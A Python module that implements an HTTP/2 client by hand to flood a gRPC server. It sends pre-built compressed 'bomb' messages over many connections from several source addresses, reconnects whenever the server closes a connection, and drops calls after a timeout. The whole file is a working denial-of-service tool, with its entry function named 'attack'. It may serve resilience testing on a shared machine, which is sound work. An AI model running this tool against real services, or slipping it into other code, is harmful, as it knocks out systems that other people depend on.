"""Many hostile connections from one thread: HTTP/2 by hand, with bytes that were prepared before.

gRPC's client would compress each bomb anew, and takes longer for a call than the receiver does. So it would be the
attacker's work that slows the attacked down, on a machine that both share. See RFC 9113 for the frames.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import struct
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

__all__ = ["Call", "Plan", "attack", "message"]

_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
_END_STREAM, _ACK, _END_HEADERS = 1, 1, 4
_INITIAL_WINDOW = 4  # a setting
_LONGEST_FRAME = 16_384
_USUAL_WINDOW = 65_535
_LOOK_S = 0.1  # how often is asked who has waited for too long


def message(data: bytes, *, compressed: bool = False) -> bytes:
    """A message of gRPC: a flag, the length, the data."""
    return struct.pack(">?I", compressed, len(data)) + data


@dataclass(frozen=True)
class Call:
    """What every call of a connection sends."""

    path: str
    metadata: Mapping[str, str]
    messages: bytes

    @property
    def head(self) -> bytes:
        """The headers, as literals that are not indexed (RFC 7541, section 6.2.2)."""
        usual = {":method": "POST", ":scheme": "http", ":path": self.path, ":authority": "localhost"}
        usual |= {"content-type": "application/grpc", "te": "trailers"}
        return b"".join(b"\0" + _text(name) + _text(value) for name, value in {**usual, **self.metadata}.items())


def _text(text: str) -> bytes:
    assert len(text) < 127, "longer texts need a longer length"
    return bytes([len(text)]) + text.encode()


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


@dataclass(frozen=True)
class Plan:
    """Where connections come from, and when they are made anew."""

    sources: Iterator[str]  # addresses of this machine, one for each connection
    calls: float = float("inf")  # of a connection
    patience_s: float = float("inf")  # for the answer to a call; then it hangs up, and the call counts as made


class _Connection:
    """Makes one call after the other, and connects again where it was closed."""

    def __init__(self, address: tuple[str, int], call: Call, plan: Plan, ended: Callable[[], object]) -> None:
        self._address, self._call, self._plan, self._ended = address, call, plan, ended
        self.socket = self._connect()

    def _connect(self) -> socket.socket:
        made = socket.create_connection(self._address, source_address=(next(self._plan.sources), 0))
        made.setblocking(False)
        self._left_here = self._plan.calls
        self._in, self._out = bytearray(), bytearray()
        self._window, self._stream_window, self._of_stream = _USUAL_WINDOW, _USUAL_WINDOW, 0
        self._stream, self._left, self._initial = -1, memoryview(b""), _USUAL_WINDOW
        wide = struct.pack(">I", 2**30)
        self._out += b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0) + _frame(_WINDOW, 0, 0, wide)
        self._begin()
        return made

    def _begin(self) -> None:
        """Begin the next call."""
        self._stream += 2
        self._begun = time.monotonic()
        self._left, self._stream_window = memoryview(self._call.messages), self._initial
        self._out += _frame(_HEADERS, _END_HEADERS, self._stream, self._call.head)

    def write(self) -> bool:
        """Send what the receiver takes; whether more waits for the socket."""
        while self._left:
            size = min(len(self._left), _LONGEST_FRAME, self._window, self._stream_window)
            if size <= 0:
                break
            part, self._left = self._left[:size], self._left[size:]
            self._window, self._stream_window = self._window - size, self._stream_window - size
            self._out += _frame(_DATA, 0 if self._left else _END_STREAM, self._stream, bytes(part))
        with contextlib.suppress(BlockingIOError):
            while self._out:
                del self._out[: self.socket.send(self._out)]
        return bool(self._out)

    def read(self) -> bool:
        """Read what the receiver says; False: it has closed the connection."""
        try:
            data = self.socket.recv(1 << 16)
        except BlockingIOError:
            return True
        except OSError:
            return False
        self._in += data
        while len(self._in) >= 9 and len(self._in) >= 9 + (size := int.from_bytes(self._in[:3], "big")):
            kind, flags, stream = struct.unpack(">BBI", self._in[3:9])
            self._take(kind, flags, stream, bytes(self._in[9 : 9 + size]))
            del self._in[: 9 + size]
        return bool(data)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _SETTINGS and not flags & _ACK:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at : at + 6])
                if name == _INITIAL_WINDOW:
                    self._stream_window += value - self._initial
                    self._initial = value
            self._out += _frame(_SETTINGS, _ACK, 0)
        elif kind == _PING and not flags & _ACK:
            self._out += _frame(_PING, _ACK, 0, payload)
        elif kind == _WINDOW:
            more = int.from_bytes(payload, "big")
            self._window += more if stream == 0 else 0
            self._stream_window += more if stream == self._stream else 0
        elif stream == self._stream and (kind == _RESET or (kind == _HEADERS and flags & _END_STREAM)):
            self._ended()
            self._left_here -= 1
            self._begin()

    @property
    def spent(self) -> bool:
        """Whether it has made as many calls as it was to make."""
        return self._left_here <= 0

    def tired(self, now: float) -> bool:
        """Whether it has waited for an answer for too long."""
        return now - self._begun > self._plan.patience_s

    def again(self) -> None:
        """Connect again."""
        self.socket.close()
        self.socket = self._connect()


def attack(
    address: tuple[str, int], calls: list[Call], plan: Plan, ended: Callable[[], object], more: Callable[[], bool]
) -> None:
    """One connection for each call, which is made again and again, while ``more`` is true.

    Args:
        address: of the receiver.
        calls: what the connections send.
        plan: where they come from.
        ended: called after each call, and when the receiver closes a connection.
        more: asked whenever something has come.
    """
    found = selectors.DefaultSelector()
    for call in calls:
        each = _Connection(address, call, plan, ended)
        each.write()
        found.register(each.socket, selectors.EVENT_READ, each)
    looked = time.monotonic()
    while more():
        due = {key.data for key, _ in found.select(timeout=_LOOK_S)}
        if (now := time.monotonic()) - looked > _LOOK_S:
            looked, due = now, due | {key.data for key in found.get_map().values() if key.data.tired(now)}
        for each in due:
            open_ = each.read() and not each.tired(now)
            if not open_ or each.spent:
                found.unregister(each.socket)
                if not open_:
                    ended()
                each.again()
                found.register(each.socket, selectors.EVENT_READ, each)
            waits = each.write()
            found.modify(each.socket, selectors.EVENT_READ | (selectors.EVENT_WRITE if waits else 0), each)
